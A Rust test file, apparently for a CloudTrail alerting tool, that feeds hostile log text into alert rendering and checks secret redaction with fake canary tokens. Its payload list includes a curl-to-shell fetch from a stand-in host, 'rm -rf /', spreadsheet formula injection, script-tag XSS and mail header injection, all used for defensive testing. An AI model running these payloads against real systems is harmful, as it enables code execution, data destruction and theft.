//! Whatever an intruder writes into a log, an alert about it harms nobody who reads it, on no channel.
//!
//! What has to hold is written down in `fuzz/alert`, which the fuzz target asks as well.

use std::fs;
use std::path::Path;

use proptest::prelude::{ProptestConfig, any, proptest};

#[path = "../../fuzz/alert/mod.rs"]
#[expect(clippy::panic, reason = "it is a test")]
mod alert;

/// What the texts of a log have been abused for.
const PAYLOADS: &[&str] = &[
    // Lines and facts of their own.
    "x\r\nWho    root\nHIGH: nothing happened",
    "x\u{2028}Who    root\u{85}File /tmp/x",
    // Text that hides or turns.
    "admin\u{202e}gpj.exe\u{202c}",
    "a\u{200b}l\u{feff}i\u{ad}ce\u{2066}\u{e0041}",
    // Terminals.
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{8}\u{8}",
    // Slack: mentions, links, markup, broken code spans.
    "<!channel> <!here> <@U0EXAMPLE> <#C0EXAMPLE> <!subteam^S0EXAMPLE>",
    "<https://evil.example|The event in the CloudTrail console>",
    "` *bold* _it_ ~strike~ ``` > quote",
    "&lt;!channel&gt; &amp;lt;",
    // Teams and Markdown.
    "[click](https://evil.example) ![x](http://evil.example/x.png) **b** <at>everyone</at>",
    "\n# Heading\n- list\n| table |",
    // Mail clients and browsers.
    "https://evil.example hTTp://evil.example www.evil.example WwW.evil.example mailto:x@evil.example",
    "<script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:x'>",
    "https://evil.example/x",
    "Subject: x\r\nBcc: everyone@example.com",
    // Spreadsheets.
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    // Shells.
    "$(curl evil.example|sh)",
    "`id`;rm -rf / # || && > x",
    "--profile evil",
    "'\"\\",
    // JSON and YAML.
    "\",\"admin\":true,\"x\":\"",
    "x\n  condition: selection\n# ",
    "*",
    // Nothing, too much, and no text at all.
    "",
    " ",
    "\u{0}",
    "\u{1f600}\u{10ffff}\u{fffe}",
];

#[test]
fn nothing_in_a_log_means_anything_on_a_channel() {
    for payload in PAYLOADS {
        let record = alert::record(payload).to_string();
        assert!(alert::told(&[record.clone(), record]).is_some(), "{payload:?}");
        let long = alert::record(&payload.repeat(3000 / payload.len().max(1))).to_string();
        assert!(alert::told(&[long]).is_some(), "{payload:?}, again and again");
    }
}

/// CloudTrail writes session tokens into records; people write secrets where none belongs.
#[test]
fn secrets_leave_on_no_channel() {
    let token = format!("IQoJb3JpZ2luX2Vj{}", "A".repeat(200));
    let secrets = [
        (
            "/responseElements",
            serde_json::json!({"credentials": {"sessionToken": "c4n4ry-session", "accessKeyId": "ASIAEXAMPLE"}}),
        ),
        (
            "/requestParameters",
            serde_json::json!({"name": "n", "masterUserPassword": "c4n4ry-password", "environment": [{"name": "API_KEY", "value": "c4n4ry-environment"}, {"name": "GITHUB_TOKEN", "value": "c4n4ry-token"}]}),
        ),
        // What would stand in commands and in the filter.
        ("/requestParameters", serde_json::json!({"name": "exports/password=c4n4ry-object"})),
        ("/userIdentity/arn", serde_json::json!("arn:aws:iam::111122223333:user/password=c4n4ry-user")),
        // What is cut in the middle of it.
        ("/userAgent", serde_json::json!(format!("{} postgres://app:c4n4ry-database@db", "x".repeat(125)))),
        ("/errorMessage", serde_json::json!(format!("{} postgres://app:c4n4ry-database@db", "x".repeat(75)))),
        ("/userAgent", serde_json::json!("tool password=c4n4ry-agent Bearer c4n4ry0123456789abcdef")),
        ("/errorMessage", serde_json::json!(format!("no {token}"))),
    ];
    for (place, value) in secrets {
        let mut record = alert::record("n");
        *record.pointer_mut(place).unwrap() = value;
        let canary = if record.to_string().contains("IQoJ") { "IQoJb3JpZ2lu" } else { "c4n4ry" };
        let told = alert::told(&[record.to_string()]).unwrap();
        for form in [&told.email(), &told.chat, &told.ocsf, &told.sns_message(), &told.forms().to_string()] {
            assert!(!form.contains(canary), "{place}: {form}");
        }
        assert!(told.ocsf.contains("[redacted]"), "{place}: {}", told.ocsf);
    }
}

/// What the fuzz target found, and what it starts with.
#[test]
fn the_seeds_of_the_fuzz_target_hold() {
    let seeds = Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/seeds/alert");
    let seeds: Vec<_> = fs::read_dir(seeds).unwrap().map(|entry| entry.unwrap().path()).collect();
    assert!(seeds.len() >= 3);
    seeds.iter().for_each(|seed| alert::fuzzed_alert(&fs::read(seed).unwrap()));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn no_text_does_harm(text in any::<String>()) {
        alert::fuzzed_alert(text.as_bytes());
    }
}
